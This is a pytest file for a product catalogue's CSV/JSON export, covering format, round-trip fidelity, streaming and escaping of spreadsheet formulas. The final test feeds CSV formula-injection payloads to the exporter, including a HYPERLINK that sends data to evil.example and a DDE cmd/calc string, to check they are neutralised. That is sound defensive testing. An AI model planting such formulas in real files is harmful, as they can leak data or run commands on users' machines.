"""Exports: exactly the import format, streamed; reading an export back gives the same values."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import uuid
from collections.abc import Iterator
from decimal import Decimal

import pytest

from app.products.transfer.exporting import CHUNK_BYTES, EXPORT_FORMATS, ExportedProduct, export_chunks
from app.products.transfer.reading import read_rows
from app.products.transfer.rows import COLUMNS, ValidRow
from app.products.transfer.validation import validate
from app.storage import ChunksReader, current_storage
from app.uploads.checks import CSV, JSON

IMAGE = uuid.UUID("0b5d8a52-6f0e-4c0a-9d43-8a4b7f6e2c11")
MUG = ExportedProduct(
    sku="MUG-1",
    name="Mug",
    description="A mug.",
    price=Decimal("12.5"),
    compare_at_price=None,
    stock=7,
    low_stock_threshold=5,
    category_slugs=["sale", "kitchen"],
    is_active=True,
    image_upload_id=IMAGE,
)
LAMP = ExportedProduct(
    sku="LAMP-2",
    name="Lampe à poser « Été » ☀ 日本",
    description='Warm light, "soft" glow,\nsecond line\r\nthird\rand a\u2028separator, ending  ',
    price=Decimal("1999.00"),
    compare_at_price=Decimal("2500"),
    stock=0,
    low_stock_threshold=0,
    category_slugs=[],
    is_active=False,
    image_upload_id=None,
)
# What a spreadsheet would run as a formula: quoted in the CSV, taken back by the import.
MINUS = ExportedProduct(
    sku="MINUS-3",
    name="-20% =SUM(A1) @home",
    description="=1+2",
    price=Decimal("0.10"),
    compare_at_price=Decimal("0.20"),
    stock=2147483647,
    low_stock_threshold=3,
    category_slugs=["kitchen"],
    is_active=True,
    image_upload_id=None,
)
PRODUCTS = [MUG, LAMP, MINUS]


def export_bytes(products: list[ExportedProduct], fmt: str) -> bytes:
    return b"".join(export_chunks(products, fmt=fmt))


def test_csv_is_the_import_format_every_column_in_order() -> None:
    assert export_bytes([MUG, MINUS], "csv").decode() == (
        ",".join(COLUMNS) + "\r\n"
        f"MUG-1,Mug,A mug.,12.50,,7,5,kitchen|sale,true,{IMAGE}\r\n"
        "MINUS-3,'-20% =SUM(A1) @home,'=1+2,0.10,0.20,2147483647,3,kitchen,true,\r\n"
    )


def test_csv_quotes_cells_that_need_it() -> None:
    line = export_bytes([LAMP], "csv").decode().split("\r\n", 1)[1]
    assert line == (
        'LAMP-2,Lampe à poser « Été » ☀ 日本,"Warm light, ""soft"" glow,\nsecond line\r\nthird\rand a\u2028'
        'separator, ending  ",1999.00,2500.00,0,0,,false,\r\n'
    )


def test_json_is_an_array_of_objects_with_the_same_keys_in_order() -> None:
    text = export_bytes([MUG, LAMP], "json").decode()
    assert text.startswith("[\n{") and text.endswith("}\n]\n")
    elements = json.loads(text)
    assert [list(element) for element in elements] == [list(COLUMNS)] * 2
    assert elements[0] == {
        "sku": "MUG-1",
        "name": "Mug",
        "description": "A mug.",
        "price": "12.50",
        "compare_at_price": None,
        "stock": 7,
        "low_stock_threshold": 5,
        "categories": ["kitchen", "sale"],
        "is_active": True,
        "image_upload_id": str(IMAGE),
    }
    assert elements[1]["name"] == LAMP.name and "\\u00e0" not in text  # UTF-8, not escapes


@pytest.mark.parametrize(("fmt", "empty"), [("csv", ",".join(COLUMNS) + "\r\n"), ("json", "[]\n")])
def test_an_empty_export_is_still_a_valid_import_file(fmt: str, empty: str) -> None:
    assert export_bytes([], fmt).decode() == empty


@pytest.mark.parametrize("fmt", EXPORT_FORMATS)
def test_utf8_without_a_bom(fmt: str) -> None:
    data = export_bytes(PRODUCTS, fmt)
    assert not data.startswith(b"\xef\xbb\xbf")
    data.decode("utf-8")


def test_an_unknown_format_is_a_programming_error() -> None:
    with pytest.raises(ValueError, match="unknown export format"):
        export_bytes(PRODUCTS, "xlsx")


# --- the round trip ---------------------------------------------------------------------


def as_imported(product: ExportedProduct) -> ValidRow:
    """What an import of ``product`` should hold: the same values."""
    return ValidRow(
        number=0,
        sku=product.sku,
        fields={
            "name": product.name,
            "description": product.description,
            "price": product.price.quantize(Decimal("0.01")),
            "compare_at_price": None if product.compare_at_price is None else product.compare_at_price,
            "stock": product.stock,
            "low_stock_threshold": product.low_stock_threshold,
            "is_active": product.is_active,
            "image_upload_id": product.image_upload_id,
        },
        category_slugs=sorted(product.category_slugs),
    )


@pytest.mark.parametrize(("fmt", "content_type"), [("csv", CSV), ("json", JSON)])
def test_reading_an_export_back_gives_identical_values(fmt: str, content_type: str) -> None:
    rows = [validate(raw) for raw in read_rows(io.BytesIO(export_bytes(PRODUCTS, fmt)), content_type=content_type)]
    assert all(isinstance(row, ValidRow) for row in rows), rows
    expected = [as_imported(p) for p in PRODUCTS]
    if fmt == "csv":
        # An empty cell is an absent value: a null or empty field comes back as "leave it".
        for row in expected:
            row.fields = {k: v for k, v in row.fields.items() if v not in (None, "")}
            row.category_slugs = row.category_slugs or None
    assert [(r.sku, r.fields, r.category_slugs) for r in rows] == [  # type: ignore[union-attr]
        (e.sku, e.fields, e.category_slugs) for e in expected
    ]
    if fmt == "json":
        assert all(row.present == frozenset(COLUMNS) - {"sku"} for row in rows)  # type: ignore[union-attr]
    # Exactly equal, down to the Decimal's places.
    assert [str(r.fields["price"]) for r in rows] == ["12.50", "1999.00", "0.10"]  # type: ignore[union-attr]


@pytest.mark.parametrize(("fmt", "content_type"), [("csv", CSV), ("json", JSON)])
def test_row_numbers_of_a_re_import_point_at_the_right_records(fmt: str, content_type: str) -> None:
    raws = list(read_rows(io.BytesIO(export_bytes(PRODUCTS, fmt)), content_type=content_type))
    # CSV: the header is line 1, LAMP's description spans four lines (\n, \r\n and \r end lines).
    assert [r.number for r in raws] == ([2, 3, 7] if fmt == "csv" else [1, 2, 3])


# --- streaming --------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", EXPORT_FORMATS)
def test_the_file_is_written_as_the_products_come_in_chunks(fmt: str) -> None:
    taken = 0

    def products() -> Iterator[ExportedProduct]:
        nonlocal taken
        for n in range(5000):
            taken += 1
            yield dataclasses.replace(MUG, sku=f"SKU-{n:05d}")

    chunks = export_chunks(products(), fmt=fmt)
    first = next(chunks)
    assert CHUNK_BYTES <= len(first) < CHUNK_BYTES + 1024
    assert taken < 5000  # not all read to write the first chunk
    rest = list(chunks)
    assert taken == 5000 and len(rest) >= 3
    assert all(len(chunk) >= CHUNK_BYTES for chunk in rest[:-1])


def test_chunks_reader_gives_full_reads_then_the_rest() -> None:
    reader = ChunksReader(iter([b"ab", b"", b"cdef", b"g"]))
    assert reader.read(3) == b"abc"
    assert reader.read(0) == b""
    assert reader.read(2) == b"de"
    assert reader.read() == b"fg"
    assert reader.read(5) == b""
    assert reader.read() == b""


@pytest.mark.parametrize("fmt", EXPORT_FORMATS)
def test_an_export_streams_to_storage(fmt: str, app_ctx: None) -> None:
    storage = current_storage()
    key = f"export-format-test/{uuid.uuid4()}/file"
    products = [dataclasses.replace(MUG, sku=f"SKU-{n:05d}") for n in range(3000)]
    storage.put_stream(key, ChunksReader(export_chunks(products, fmt=fmt)))
    try:
        stream = storage.open(key)
        try:
            stored = stream.read()
        finally:
            stream.close()
        assert stored == export_bytes(products, fmt)
    finally:
        storage.delete(key)


@pytest.mark.parametrize(
    ("stored", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+1", "'+1"),
        ("-20% off", "'-20% off"),
        ("\tTabbed", "'\tTabbed"),
        ("'=already quoted", "''=already quoted"),  # one more quote, so the import gives this back
        ("'Tis the season", "'Tis the season"),  # a quote before no trigger: left alone
        ("Plain", "Plain"),
    ],
)
def test_a_formula_is_quoted_in_the_csv_and_the_import_gives_the_value_back(stored: str, written: str) -> None:
    product = dataclasses.replace(MUG, name=stored, description=stored)
    line = export_bytes([product], "csv").decode().split("\r\n", 1)[1]
    cells = next(csv.reader(io.StringIO(line)))
    assert cells[1] == cells[2] == written
    (row,) = read_rows(io.BytesIO(export_bytes([product], "csv")), content_type=CSV)
    assert row.values["name"] == row.values["description"] == stored
